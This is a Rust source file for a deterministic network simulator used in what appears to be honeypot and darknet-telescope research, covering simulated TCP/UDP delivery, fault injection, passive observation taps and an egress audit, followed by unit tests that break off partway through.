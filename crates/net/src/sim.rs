//! The simulator proper: [`SimNet`] owns the agents, the connection table,
//! the event queue, capture taps, and the fault model, and drives everything
//! deterministically.
//!
//! ## Transport semantics
//!
//! * **TCP connect**: subject to `FaultPlan::drop_chance` (a lost SYN or
//!   SYN-ACK manifests as a timeout, exactly the loss mode stateless scanners
//!   like ZMap experience). Connecting to unoccupied space times out; to an
//!   occupied host with a refusing agent, produces an RST (`on_tcp_refused`).
//! * **TCP data**: reliable and ordered once established (retransmission is
//!   below the abstraction line), delivered after the connection's fixed
//!   per-pair latency.
//! * **UDP**: unreliable — subject to drops and (optionally) single-octet
//!   corruption. Supports spoofed sources, the reflection-attack primitive.
//!
//! ## Observation taps
//!
//! A [`FlowTap`] attached to a CIDR range sees every packet destined into the
//! range, including — crucially — packets to *unoccupied* addresses. This is
//! the mechanism behind `ofh-telescope`'s /8 darknet, and mirrors how a real
//! network telescope passively records unsolicited traffic.

use std::any::Any;
use crate::fasthash::FastMap;
use crate::slab::Slab;
use std::net::Ipv4Addr;

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde::{Deserialize, Serialize};

use crate::addr::SockAddr;
use crate::agent::{Agent, AgentId, ConnToken, NetCtx, TcpDecision};
use crate::cidr::Cidr;
use crate::event::EventQueue;
use crate::fault::FaultPlan;
use crate::packet::{FlowKind, FlowObservation, Payload, PayloadBuilder, Transport};
use crate::rng;
use crate::time::{SimDuration, SimTime};

/// How latency between a pair of hosts is derived.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub enum LatencyModel {
    /// Every packet takes exactly this long.
    Fixed(SimDuration),
    /// `base_ms` plus a deterministic per-(src,dst) component in
    /// `[0, spread_ms)` — distant hosts stay consistently distant.
    PairHash { base_ms: u64, spread_ms: u64 },
}

impl LatencyModel {
    fn one_way(&self, src: Ipv4Addr, dst: Ipv4Addr) -> SimDuration {
        match *self {
            LatencyModel::Fixed(d) => d,
            LatencyModel::PairHash { base_ms, spread_ms } => {
                let h = rng::splitmix64(((u32::from(src) as u64) << 32) | u32::from(dst) as u64);
                SimDuration::from_millis(base_ms + if spread_ms == 0 { 0 } else { h % spread_ms })
            }
        }
    }
}

impl Default for LatencyModel {
    fn default() -> Self {
        LatencyModel::PairHash {
            base_ms: 10,
            spread_ms: 140,
        }
    }
}

/// Simulator configuration.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SimNetConfig {
    /// Master seed for the fabric RNG (fault decisions, jitter).
    pub seed: u64,
    /// Fault injection plan.
    pub fault: FaultPlan,
    /// Latency model.
    pub latency: LatencyModel,
    /// How long a connection attempt waits before `on_tcp_timeout`.
    pub syn_timeout: SimDuration,
}

impl Default for SimNetConfig {
    fn default() -> Self {
        SimNetConfig {
            seed: 0,
            fault: FaultPlan::NONE,
            latency: LatencyModel::default(),
            syn_timeout: SimDuration::from_secs(3),
        }
    }
}

/// Aggregate traffic counters, handy for tests and reports.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Counters {
    pub events_processed: u64,
    pub syns_sent: u64,
    pub conns_established: u64,
    pub conns_refused: u64,
    pub conn_timeouts: u64,
    pub tcp_payload_bytes: u64,
    pub udp_datagrams_sent: u64,
    pub udp_datagrams_dropped: u64,
    pub udp_datagrams_corrupted: u64,
}

impl Counters {
    /// Fold another fabric's counters into this one (the sharded engine
    /// sums per-shard counters into the report's aggregate).
    pub fn absorb(&mut self, other: &Counters) {
        self.events_processed += other.events_processed;
        self.syns_sent += other.syns_sent;
        self.conns_established += other.conns_established;
        self.conns_refused += other.conns_refused;
        self.conn_timeouts += other.conn_timeouts;
        self.tcp_payload_bytes += other.tcp_payload_bytes;
        self.udp_datagrams_sent += other.udp_datagrams_sent;
        self.udp_datagrams_dropped += other.udp_datagrams_dropped;
        self.udp_datagrams_corrupted += other.udp_datagrams_corrupted;
    }
}

/// A passive packet observer attached to a CIDR range. Implemented by the
/// network telescope; `Any` lets experiments recover the concrete tap after a
/// run.
pub trait FlowTap: Any {
    fn observe(&mut self, obs: &FlowObservation);
}

/// Handle to a registered tap.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct TapId(usize);

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum ConnPhase {
    Connecting,
    Established,
}

struct ConnState {
    client: AgentId,
    client_sock: SockAddr,
    /// Filled in when the SYN reaches an occupied host.
    server: Option<AgentId>,
    server_sock: SockAddr,
    latency: SimDuration,
    phase: ConnPhase,
    /// Whether the client has heard the outcome (established/refused).
    client_notified: bool,
    /// Opaque client-chosen tag (see [`NetCtx::tcp_connect_tagged`]);
    /// scanners use it to recover the sweep a probe belongs to without a
    /// per-probe side table.
    tag: u64,
}

enum NetEvent {
    Boot {
        agent: AgentId,
    },
    SynArrive {
        conn: u64,
    },
    ConnOutcome {
        conn: u64,
        accepted: bool,
    },
    DataArrive {
        conn: u64,
        to_server: bool,
        data: Payload,
    },
    CloseArrive {
        conn: u64,
        to_agent: AgentId,
    },
    ConnTimeout {
        conn: u64,
    },
    UdpArrive {
        src: SockAddr,
        dst: SockAddr,
        payload: Payload,
    },
    Timer {
        agent: AgentId,
        token: u64,
    },
}

/// The network fabric: everything except the agents themselves. Split out so
/// an agent callback can mutate the fabric (send packets, set timers) while
/// the simulator holds the agent itself mutably.
pub struct Fabric {
    queue: EventQueue<NetEvent>,
    conns: Slab<ConnState>,
    /// When set, every connection id opened via `tcp_connect` is appended —
    /// see [`NetCtx::begin_conn_capture`].
    conn_capture: Option<Vec<u64>>,
    next_port: u16,
    by_addr: FastMap<Ipv4Addr, AgentId>,
    ttls: Vec<u8>,
    windows: Vec<u16>,
    /// Outbound-initiation counters per agent: TCP connects + UDP datagrams
    /// sent to peers the agent was not already talking to. The egress audit
    /// (paper Appendix A.3: honeypots must never attack back) reads these.
    egress: Vec<EgressStats>,
    /// While dispatching a UDP arrival: (receiving agent, sender) — used to
    /// classify the agent's own sends during the callback as replies.
    current_udp_inbound: Option<(AgentId, SockAddr)>,
    pub(crate) rng: StdRng,
    cfg: SimNetConfig,
    taps: Vec<(Cidr, Box<dyn FlowTap>)>,
    /// Interval index over `taps`: entries `(start, end, tap_idx)` sorted by
    /// start address, with a running prefix maximum of `end` for early
    /// termination. Rebuilt on `add_tap`. Lookup collects matching tap
    /// indices and dispatches them in insertion order, so adding the index
    /// changes nothing observable.
    tap_index: Vec<(u32, u32, u32)>,
    tap_max_end: Vec<u32>,
    /// Scratch for matching tap indices (avoids a per-packet alloc).
    tap_hits: Vec<u32>,
    pub counters: Counters,
    /// Locally-accumulated observability for the hot send paths; folded into
    /// the installed registry once per phase by [`SimNet::flush_obs`] so the
    /// per-packet cost is a plain field update, not a thread-local lookup.
    obs_conns_peak: u64,
    obs_tcp_bytes: ofh_obs::Histogram,
    obs_udp_bytes: ofh_obs::Histogram,
}

/// Per-agent egress accounting (Appendix A.3's sandboxing audit).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct EgressStats {
    /// TCP connections this agent initiated.
    pub tcp_initiated: u64,
    /// UDP datagrams this agent sent that were *not* replies (the
    /// destination had not previously sent this agent a datagram).
    pub udp_unsolicited: u64,
    /// UDP datagrams sent as replies to a peer that contacted us first.
    pub udp_replies: u64,
}

impl Fabric {
    pub(crate) fn now(&self) -> SimTime {
        self.queue.now()
    }

    pub(crate) fn begin_conn_capture(&mut self) {
        self.conn_capture = Some(Vec::new());
    }

    pub(crate) fn end_conn_capture(&mut self) -> Vec<u64> {
        self.conn_capture.take().unwrap_or_default()
    }

    pub(crate) fn next_ephemeral_port(&mut self) -> u16 {
        let p = self.next_port;
        self.next_port = if p >= 60_999 { 32_768 } else { p + 1 };
        p
    }

    pub(crate) fn set_ttl(&mut self, agent: AgentId, ttl: u8) {
        self.ttls[agent.0 as usize] = ttl;
    }

    pub(crate) fn set_window(&mut self, agent: AgentId, window: u16) {
        self.windows[agent.0 as usize] = window;
    }

    fn hops(src: Ipv4Addr, dst: Ipv4Addr) -> u8 {
        let h = rng::splitmix64(((u32::from(dst) as u64) << 32) | u32::from(src) as u64);
        5 + (h % 25) as u8
    }

    /// Rebuild the tap interval index after registration changes.
    fn rebuild_tap_index(&mut self) {
        self.tap_index = self
            .taps
            .iter()
            .enumerate()
            .map(|(i, (range, _))| (u32::from(range.first()), u32::from(range.last()), i as u32))
            .collect();
        self.tap_index.sort_unstable();
        let mut max_end = 0u32;
        self.tap_max_end = self
            .tap_index
            .iter()
            .map(|&(_, end, _)| {
                max_end = max_end.max(end);
                max_end
            })
            .collect();
    }

    fn observe(
        &mut self,
        src: SockAddr,
        dst: SockAddr,
        transport: Transport,
        kind: FlowKind,
        ttl: u8,
        tcp_flags: u8,
        tcp_window: u16,
        payload: &Payload,
        spoofed: bool,
    ) {
        if self.taps.is_empty() {
            return;
        }
        // Interval lookup: walk backwards from the last range starting at or
        // before `dst`; the prefix maximum of range ends bounds how far back
        // a covering range can sit, so disjoint taps terminate in O(log n).
        let d = u32::from(dst.addr);
        let mut i = self.tap_index.partition_point(|&(start, _, _)| start <= d);
        self.tap_hits.clear();
        while i > 0 {
            i -= 1;
            if self.tap_max_end[i] < d {
                break;
            }
            let (_, end, idx) = self.tap_index[i];
            if end >= d {
                self.tap_hits.push(idx);
            }
        }
        if self.tap_hits.is_empty() {
            return;
        }
        // Registration order, exactly as the linear scan dispatched.
        self.tap_hits.sort_unstable();
        let header = match transport {
            Transport::Tcp => 40,
            Transport::Udp => 28,
        };
        let ip_len = (header + payload.len()).min(u16::MAX as usize) as u16;
        let now = self.queue.now();
        let obs = FlowObservation {
            time: now,
            src: src.addr,
            dst: dst.addr,
            src_port: src.port,
            dst_port: dst.port,
            transport,
            kind,
            ttl: ttl.saturating_sub(Self::hops(src.addr, dst.addr)),
            tcp_flags,
            tcp_window,
            ip_len,
            payload: payload.clone(), // refcount bump, not a byte copy
            spoofed,
        };
        let hits = std::mem::take(&mut self.tap_hits);
        for &idx in &hits {
            self.taps[idx as usize].1.observe(&obs);
        }
        self.tap_hits = hits;
    }

    pub(crate) fn tcp_connect(
        &mut self,
        client: AgentId,
        client_addr: Ipv4Addr,
        src_port: u16,
        dst: SockAddr,
        tag: u64,
    ) -> ConnToken {
        let latency = self.cfg.latency.one_way(client_addr, dst.addr);
        let client_sock = SockAddr::new(client_addr, src_port);
        let id = self.conns.insert(ConnState {
            client,
            client_sock,
            server: None,
            server_sock: dst,
            latency,
            phase: ConnPhase::Connecting,
            client_notified: false,
            tag,
        });
        if let Some(log) = &mut self.conn_capture {
            log.push(id);
        }
        self.counters.syns_sent += 1;
        self.egress[client.0 as usize].tcp_initiated += 1;
        self.obs_conns_peak = self.obs_conns_peak.max(self.conns.len() as u64);
        let ttl = self.ttls[client.0 as usize];
        let window = self.windows[client.0 as usize];
        self.observe(
            client_sock,
            dst,
            Transport::Tcp,
            FlowKind::TcpSyn,
            ttl,
            FlowObservation::SYN,
            window,
            &Payload::empty(),
            false,
        );
        let now = self.queue.now();
        // The timeout backstop always exists; it is ignored if an outcome
        // reaches the client first.
        self.queue
            .schedule(now + self.cfg.syn_timeout, NetEvent::ConnTimeout { conn: id });
        let occupied = self.by_addr.contains_key(&dst.addr);
        let syn_lost = self.roll(self.cfg.fault.drop_chance);
        if occupied && !syn_lost {
            self.queue
                .schedule(now + latency, NetEvent::SynArrive { conn: id });
        }
        ConnToken(id)
    }

    pub(crate) fn tcp_send(&mut self, sender: AgentId, conn: ConnToken, data: Payload) {
        let Some(c) = self.conns.get(conn.0) else {
            return; // connection already gone (closed/refused)
        };
        let to_server = c.client == sender;
        let (latency, src, dst) = if to_server {
            (c.latency, c.client_sock, c.server_sock)
        } else {
            (c.latency, c.server_sock, c.client_sock)
        };
        self.counters.tcp_payload_bytes += data.len() as u64;
        self.obs_tcp_bytes.record(data.len() as u64);
        let ttl = self.ttls[sender.0 as usize];
        self.observe(
            src,
            dst,
            Transport::Tcp,
            FlowKind::TcpData,
            ttl,
            FlowObservation::ACK | FlowObservation::PSH,
            0,
            &data,
            false,
        );
        let now = self.queue.now();
        self.queue.schedule(
            now + latency,
            NetEvent::DataArrive {
                conn: conn.0,
                to_server,
                data,
            },
        );
    }

    pub(crate) fn tcp_close(&mut self, closer: AgentId, conn: ConnToken) {
        let Some(c) = self.conns.remove(conn.0) else {
            return;
        };
        let peer = if c.client == closer { c.server } else { Some(c.client) };
        if let Some(peer) = peer {
            let now = self.queue.now();
            self.queue.schedule(
                now + c.latency,
                NetEvent::CloseArrive {
                    conn: conn.0,
                    to_agent: peer,
                },
            );
        }
    }

    pub(crate) fn udp_send(
        &mut self,
        sender: AgentId,
        src: SockAddr,
        dst: SockAddr,
        mut payload: Payload,
        spoofed: bool,
    ) {
        self.counters.udp_datagrams_sent += 1;
        self.obs_udp_bytes.record(payload.len() as u64);
        // Egress accounting: a send to the peer whose datagram we are
        // currently handling is a reply; everything else is unsolicited.
        let is_reply = matches!(
            self.current_udp_inbound,
            Some((agent, peer)) if agent == sender && peer.addr == dst.addr
        );
        if is_reply {
            self.egress[sender.0 as usize].udp_replies += 1;
        } else {
            self.egress[sender.0 as usize].udp_unsolicited += 1;
        }
        // Spoofed packets carry the TTL fingerprint of the claimed source's
        // would-be stack only if the attacker bothers; we use a fixed 255.
        let ttl = 255u8;
        self.observe(
            src,
            dst,
            Transport::Udp,
            FlowKind::UdpDatagram,
            ttl,
            0,
            0,
            &payload,
            spoofed,
        );
        if !self.by_addr.contains_key(&dst.addr) {
            return;
        }
        if self.roll(self.cfg.fault.drop_chance) {
            self.counters.udp_datagrams_dropped += 1;
            return;
        }
        if !payload.is_empty() && self.roll(self.cfg.fault.corrupt_chance) {
            self.counters.udp_datagrams_corrupted += 1;
            let idx = self.rng.gen_range(0..payload.len());
            let bit = 1u8 << self.rng.gen_range(0..8);
            // Copy-on-write: payloads are shared immutably, so the (rare)
            // corruption fault clones the bytes into a fresh pooled buffer.
            let mut corrupted = PayloadBuilder::new();
            corrupted.extend_from_slice(&payload);
            corrupted[idx] ^= bit;
            payload = corrupted.freeze();
        }
        let latency = self.cfg.latency.one_way(src.addr, dst.addr) + self.jitter();
        let now = self.queue.now();
        self.queue
            .schedule(now + latency, NetEvent::UdpArrive { src, dst, payload });
    }

    pub(crate) fn conn_tag(&self, conn: ConnToken) -> Option<u64> {
        self.conns.get(conn.0).map(|c| c.tag)
    }

    pub(crate) fn conn_peer(&self, conn: ConnToken) -> Option<SockAddr> {
        self.conns.get(conn.0).map(|c| c.server_sock)
    }

    pub(crate) fn set_timer(&mut self, agent: AgentId, delay: SimDuration, token: u64) {
        let now = self.queue.now();
        self.queue
            .schedule(now + delay, NetEvent::Timer { agent, token });
    }

    fn roll(&mut self, p: f64) -> bool {
        p > 0.0 && self.rng.gen_bool(p.min(1.0))
    }

    fn jitter(&mut self) -> SimDuration {
        if self.cfg.fault.jitter_ms == 0 {
            SimDuration::ZERO
        } else {
            SimDuration::from_millis(self.rng.gen_range(0..=self.cfg.fault.jitter_ms))
        }
    }
}

/// The simulated Internet.
pub struct SimNet {
    fabric: Fabric,
    agents: Vec<Option<Box<dyn Agent>>>,
    addrs: Vec<Ipv4Addr>,
    /// Sim-hour the events-per-hour accumulator below belongs to.
    obs_hour: u64,
    /// Events processed so far within `obs_hour`.
    obs_hour_events: u64,
}

impl SimNet {
    pub fn new(cfg: SimNetConfig) -> Self {
        cfg.fault.validate().expect("invalid fault plan");
        let rng = StdRng::seed_from_u64(rng::derive_seed(cfg.seed, "ofh-net/fabric"));
        SimNet {
            fabric: Fabric {
                queue: EventQueue::new(),
                conns: Slab::new(),
                conn_capture: None,
                next_port: 32_768,
                by_addr: FastMap::default(),
                ttls: Vec::new(),
                windows: Vec::new(),
                egress: Vec::new(),
                current_udp_inbound: None,
                rng,
                cfg,
                taps: Vec::new(),
                tap_index: Vec::new(),
                tap_max_end: Vec::new(),
                tap_hits: Vec::new(),
                counters: Counters::default(),
                obs_conns_peak: 0,
                obs_tcp_bytes: ofh_obs::Histogram::default(),
                obs_udp_bytes: ofh_obs::Histogram::default(),
            },
            agents: Vec::new(),
            addrs: Vec::new(),
            obs_hour: 0,
            obs_hour_events: 0,
        }
    }

    /// Attach an agent at `addr`. Panics if the address is already occupied —
    /// the population builders guarantee distinct addresses.
    pub fn attach(&mut self, addr: Ipv4Addr, agent: Box<dyn Agent>) -> AgentId {
        assert!(
            !self.fabric.by_addr.contains_key(&addr),
            "address {addr} is already occupied"
        );
        let id = AgentId(self.agents.len() as u32);
        self.agents.push(Some(agent));
        self.addrs.push(addr);
        self.fabric.ttls.push(64);
        self.fabric.windows.push(65_535);
        self.fabric.egress.push(EgressStats::default());
        self.fabric.by_addr.insert(addr, id);
        let now = self.fabric.queue.now();
        self.fabric.queue.schedule(now, NetEvent::Boot { agent: id });
        id
    }

    /// Register a passive observation tap over `range`.
    pub fn add_tap(&mut self, range: Cidr, tap: Box<dyn FlowTap>) -> TapId {
        self.fabric.taps.push((range, tap));
        self.fabric.rebuild_tap_index();
        TapId(self.fabric.taps.len() - 1)
    }

    /// Current simulated time.
    pub fn now(&self) -> SimTime {
        self.fabric.queue.now()
    }

    /// Whether any agent is attached at `addr`.
    pub fn is_occupied(&self, addr: Ipv4Addr) -> bool {
        self.fabric.by_addr.contains_key(&addr)
    }

    /// The address an agent is attached at.
    pub fn addr_of(&self, id: AgentId) -> Ipv4Addr {
        self.addrs[id.0 as usize]
    }

    /// The agent attached at `addr`, if any.
    pub fn agent_at(&self, addr: Ipv4Addr) -> Option<AgentId> {
        self.fabric.by_addr.get(&addr).copied()
    }

    /// Number of attached agents.
    pub fn agent_count(&self) -> usize {
        self.agents.len()
    }

    /// Traffic counters so far.
    pub fn counters(&self) -> Counters {
        self.fabric.counters
    }

    /// Egress accounting for an agent — the Appendix A.3 sandboxing audit:
    /// a well-behaved honeypot has `tcp_initiated == 0` and
    /// `udp_unsolicited == 0` (it only ever *answers*).
    pub fn egress_of(&self, id: AgentId) -> EgressStats {
        self.fabric.egress[id.0 as usize]
    }

    /// Jump the clock forward to `t` (no events may be pending before `t`).
    pub fn advance_to(&mut self, t: SimTime) {
        if let Some(next) = self.fabric.queue.peek_time() {
            assert!(
                next >= t,
                "cannot advance past pending events (next at {next}, target {t})"
            );
        }
        self.fabric.queue.advance_to(t);
    }

    /// Per-event observability bookkeeping: accumulate events into the
    /// current sim-hour, flushing one histogram sample per completed hour.
    /// Keyed on sim-time, so the histogram is deterministic.
    #[inline]
    fn note_event(&mut self) {
        let hour = self.fabric.queue.now().0 / 3_600_000;
        if hour != self.obs_hour {
            if self.obs_hour_events > 0 {
                ofh_obs::observe("net.events_per_hour", self.obs_hour_events);
            }
            self.obs_hour = hour;
            self.obs_hour_events = 0;
        }
        self.obs_hour_events += 1;
    }

    /// Flush the locally-accumulated observability — the partial
    /// events-per-hour sample plus the hot-path accumulators (connection
    /// high-water mark, payload-size histograms). Call after the last
    /// `run_until` of a phase, while the phase's observability target is
    /// still installed. Idempotent: accumulators reset on flush.
    pub fn flush_obs(&mut self) {
        if self.obs_hour_events > 0 {
            ofh_obs::observe("net.events_per_hour", self.obs_hour_events);
            self.obs_hour_events = 0;
        }
        if self.fabric.obs_conns_peak > 0 {
            ofh_obs::gauge_max("net.conns_live", self.fabric.obs_conns_peak);
            self.fabric.obs_conns_peak = 0;
        }
        ofh_obs::observe_hist("net.tcp_payload_bytes", &self.fabric.obs_tcp_bytes);
        self.fabric.obs_tcp_bytes = ofh_obs::Histogram::default();
        ofh_obs::observe_hist("net.udp_payload_bytes", &self.fabric.obs_udp_bytes);
        self.fabric.obs_udp_bytes = ofh_obs::Histogram::default();
    }

    /// Process a single event. Returns `false` when the queue is empty.
    pub fn step(&mut self) -> bool {
        let Some((_, ev)) = self.fabric.queue.pop() else {
            return false;
        };
        self.fabric.counters.events_processed += 1;
        self.note_event();
        self.dispatch(ev);
        true
    }

    /// Run until the queue is empty or the clock passes `deadline`.
    /// Events scheduled exactly at the deadline are processed.
    pub fn run_until(&mut self, deadline: SimTime) {
        while let Some((_, ev)) = self.fabric.queue.pop_before(deadline) {
            self.fabric.counters.events_processed += 1;
            self.note_event();
            self.dispatch(ev);
        }
        if self.fabric.queue.now() < deadline {
            self.fabric.queue.advance_to(deadline);
        }
    }

    /// Run until the event queue drains completely. Only safe for workloads
    /// without self-rearming timers; prefer [`Self::run_until`].
    pub fn run_to_idle(&mut self) {
        while self.step() {}
    }

    /// Recover a concrete agent for result extraction after (or during) a run.
    pub fn agent_downcast_mut<T: Agent>(&mut self, id: AgentId) -> Option<&mut T> {
        let slot = self.agents.get_mut(id.0 as usize)?.as_deref_mut()?;
        let any: &mut dyn Any = slot;
        any.downcast_mut::<T>()
    }

    /// Recover a concrete agent immutably.
    pub fn agent_downcast<T: Agent>(&self, id: AgentId) -> Option<&T> {
        let slot = self.agents.get(id.0 as usize)?.as_deref()?;
        let any: &dyn Any = slot;
        any.downcast_ref::<T>()
    }

    /// Recover a concrete tap for result extraction after a run.
    pub fn tap_downcast_mut<T: FlowTap>(&mut self, id: TapId) -> Option<&mut T> {
        let (_, tap) = self.fabric.taps.get_mut(id.0)?;
        let any: &mut dyn Any = tap.as_mut();
        any.downcast_mut::<T>()
    }

    /// Visit every attached agent of concrete type `T`.
    pub fn for_each_agent<T: Agent>(&self, mut f: impl FnMut(AgentId, &T)) {
        for (i, slot) in self.agents.iter().enumerate() {
            if let Some(agent) = slot.as_deref() {
                let any: &dyn Any = agent;
                if let Some(t) = any.downcast_ref::<T>() {
                    f(AgentId(i as u32), t);
                }
            }
        }
    }

    fn with_agent(&mut self, id: AgentId, f: impl FnOnce(&mut dyn Agent, &mut NetCtx<'_>)) {
        let Some(slot) = self.agents.get_mut(id.0 as usize) else {
            return;
        };
        let Some(mut agent) = slot.take() else {
            return; // re-entrant dispatch cannot happen; defensive
        };
        let mut ctx = NetCtx {
            fabric: &mut self.fabric,
            me: id,
            my_addr: self.addrs[id.0 as usize],
        };
        f(agent.as_mut(), &mut ctx);
        self.agents[id.0 as usize] = Some(agent);
    }

    fn dispatch(&mut self, ev: NetEvent) {
        match ev {
            NetEvent::Boot { agent } => {
                self.with_agent(agent, |a, ctx| a.on_boot(ctx));
            }
            NetEvent::SynArrive { conn } => {
                let Some(c) = self.fabric.conns.get(conn) else {
                    return;
                };
                let (dst_sock, client_sock) = (c.server_sock, c.client_sock);
                let Some(server_id) = self.fabric.by_addr.get(&dst_sock.addr).copied() else {
                    return; // host vanished; client times out
                };
                let mut decision = TcpDecision::Refuse;
                self.with_agent(server_id, |a, ctx| {
                    decision = a.on_tcp_open(ctx, ConnToken(conn), dst_sock.port, client_sock);
                });
                let response_lost = self.fabric.roll(self.fabric.cfg.fault.drop_chance);
                let Some(c) = self.fabric.conns.get_mut(conn) else {
                    return;
                };
                let latency = c.latency;
                let now = self.fabric.queue.now();
                match decision {
                    TcpDecision::Accept { greeting } => {
                        c.server = Some(server_id);
                        c.phase = ConnPhase::Established;
                        if !response_lost {
                            self.fabric.queue.schedule(
                                now + latency,
                                NetEvent::ConnOutcome {
                                    conn,
                                    accepted: true,
                                },
                            );
                            if let Some(banner) = greeting {
                                // Scheduled after the outcome at the same
                                // arrival time: seq order guarantees the
                                // client learns "established" first.
                                self.fabric.tcp_send(server_id, ConnToken(conn), banner);
                            }
                        }
                    }
                    TcpDecision::Refuse => {
                        if !response_lost {
                            self.fabric.queue.schedule(
                                now + latency,
                                NetEvent::ConnOutcome {
                                    conn,
                                    accepted: false,
                                },
                            );
                        }
                    }
                }
            }
            NetEvent::ConnOutcome { conn, accepted } => {
                let Some(c) = self.fabric.conns.get_mut(conn) else {
                    return;
                };
                if c.client_notified {
                    return;
                }
                c.client_notified = true;
                let client = c.client;
                if accepted {
                    self.fabric.counters.conns_established += 1;
                    self.with_agent(client, |a, ctx| a.on_tcp_established(ctx, ConnToken(conn)));
                } else {
                    self.fabric.counters.conns_refused += 1;
                    self.fabric.conns.remove(conn);
                    self.with_agent(client, |a, ctx| a.on_tcp_refused(ctx, ConnToken(conn)));
                }
            }
            NetEvent::DataArrive {
                conn,
                to_server,
                data,
            } => {
                let Some(c) = self.fabric.conns.get(conn) else {
                    return;
                };
                if c.phase != ConnPhase::Established {
                    return;
                }
                let target = if to_server { c.server } else { Some(c.client) };
                if let Some(target) = target {
                    self.with_agent(target, |a, ctx| a.on_tcp_data(ctx, ConnToken(conn), &data));
                }
            }
            NetEvent::CloseArrive { conn, to_agent } => {
                self.with_agent(to_agent, |a, ctx| a.on_tcp_closed(ctx, ConnToken(conn)));
            }
            NetEvent::ConnTimeout { conn } => {
                let Some(c) = self.fabric.conns.get(conn) else {
                    return;
                };
                if c.client_notified {
                    return; // outcome already delivered; backstop is stale
                }
                let client = c.client;
                self.fabric.conns.remove(conn);
                self.fabric.counters.conn_timeouts += 1;
                self.with_agent(client, |a, ctx| a.on_tcp_timeout(ctx, ConnToken(conn)));
            }
            NetEvent::UdpArrive { src, dst, payload } => {
                let Some(target) = self.fabric.by_addr.get(&dst.addr).copied() else {
                    return;
                };
                self.fabric.current_udp_inbound = Some((target, src));
                self.with_agent(target, |a, ctx| a.on_udp(ctx, dst.port, src, &payload));
                self.fabric.current_udp_inbound = None;
            }
            NetEvent::Timer { agent, token } => {
                self.with_agent(agent, |a, ctx| a.on_timer(ctx, token));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::addr::ip;

    /// A server that accepts on one port with a banner and echoes data back
    /// in upper-case; refuses every other port.
    struct Echo {
        port: u16,
        banner: &'static [u8],
        seen: Vec<Vec<u8>>,
        closed: usize,
        udp_seen: Vec<Vec<u8>>,
    }

    impl Echo {
        fn new(port: u16, banner: &'static [u8]) -> Self {
            Echo {
                port,
                banner,
                seen: Vec::new(),
                closed: 0,
                udp_seen: Vec::new(),
            }
        }
    }

    impl Agent for Echo {
        fn on_tcp_open(
            &mut self,
            _ctx: &mut NetCtx<'_>,
            _conn: ConnToken,
            port: u16,
            _peer: SockAddr,
        ) -> TcpDecision {
            if port == self.port {
                TcpDecision::accept_with(self.banner)
            } else {
                TcpDecision::Refuse
            }
        }

        fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
            self.seen.push(data.to_vec());
            ctx.tcp_send(conn, data.to_ascii_uppercase());
        }

        fn on_tcp_closed(&mut self, _ctx: &mut NetCtx<'_>, _conn: ConnToken) {
            self.closed += 1;
        }

        fn on_udp(&mut self, ctx: &mut NetCtx<'_>, port: u16, peer: SockAddr, payload: &Payload) {
            self.udp_seen.push(payload.to_vec());
            ctx.udp_send(port, peer, payload.to_ascii_uppercase());
        }
    }

    /// A client that connects on boot, records lifecycle events, sends one
    /// message, and closes after the echo comes back.
    struct Client {
        dst: SockAddr,
        conn: Option<ConnToken>,
        established: bool,
        refused: bool,
        timed_out: bool,
        received: Vec<Vec<u8>>,
        udp_received: Vec<Vec<u8>>,
    }

    impl Client {
        fn new(dst: SockAddr) -> Self {
            Client {
                dst,
                conn: None,
                established: false,
                refused: false,
                timed_out: false,
                received: Vec::new(),
                udp_received: Vec::new(),
            }
        }
    }

    impl Agent for Client {
        fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
            self.conn = Some(ctx.tcp_connect(self.dst));
        }

        fn on_tcp_established(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
            self.established = true;
            ctx.tcp_send(conn, b"hello".to_vec());
        }

        fn on_tcp_refused(&mut self, _ctx: &mut NetCtx<'_>, _conn: ConnToken) {
            self.refused = true;
        }

        fn on_tcp_timeout(&mut self, _ctx: &mut NetCtx<'_>, _conn: ConnToken) {
            self.timed_out = true;
        }

        fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
            self.received.push(data.to_vec());
            if self.received.len() == 2 {
                ctx.tcp_close(conn);
            }
        }

        fn on_udp(&mut self, _ctx: &mut NetCtx<'_>, _port: u16, _peer: SockAddr, payload: &Payload) {
            self.udp_received.push(payload.to_vec());
        }
    }

    fn net() -> SimNet {
        SimNet::new(SimNetConfig {
            latency: LatencyModel::Fixed(SimDuration::from_millis(10)),
            ..SimNetConfig::default()
        })
    }

    #[test]
    fn tcp_handshake_banner_echo_close() {
        let mut net = net();
        let server_addr = ip(10, 0, 0, 1);
        let server = net.attach(server_addr, Box::new(Echo::new(23, b"login: ")));
        let client = net.attach(
            ip(10, 0, 0, 2),
            Box::new(Client::new(SockAddr::new(server_addr, 23))),
        );
        net.run_until(SimTime(10_000));

        let c = net.agent_downcast::<Client>(client).unwrap();
        assert!(c.established);
        assert!(!c.refused && !c.timed_out);
        // Banner first, then the upper-cased echo.
        assert_eq!(c.received, vec![b"login: ".to_vec(), b"HELLO".to_vec()]);

        let s = net.agent_downcast::<Echo>(server).unwrap();
        assert_eq!(s.seen, vec![b"hello".to_vec()]);
        assert_eq!(s.closed, 1, "server must learn about the client's close");

        let counters = net.counters();
        assert_eq!(counters.conns_established, 1);
        assert_eq!(counters.conn_timeouts, 0);
    }

    #[test]
    fn tcp_refused_on_closed_port() {
        let mut net = net();
        let server_addr = ip(10, 0, 0, 1);
        net.attach(server_addr, Box::new(Echo::new(23, b"")));
        let client = net.attach(
            ip(10, 0, 0, 2),
            Box::new(Client::new(SockAddr::new(server_addr, 8080))),
        );
        net.run_until(SimTime(10_000));
        let c = net.agent_downcast::<Client>(client).unwrap();
        assert!(c.refused && !c.established && !c.timed_out);
        assert_eq!(net.counters().conns_refused, 1);
    }

    #[test]
    fn tcp_timeout_on_empty_space() {
        let mut net = net();
        let client = net.attach(
            ip(10, 0, 0, 2),
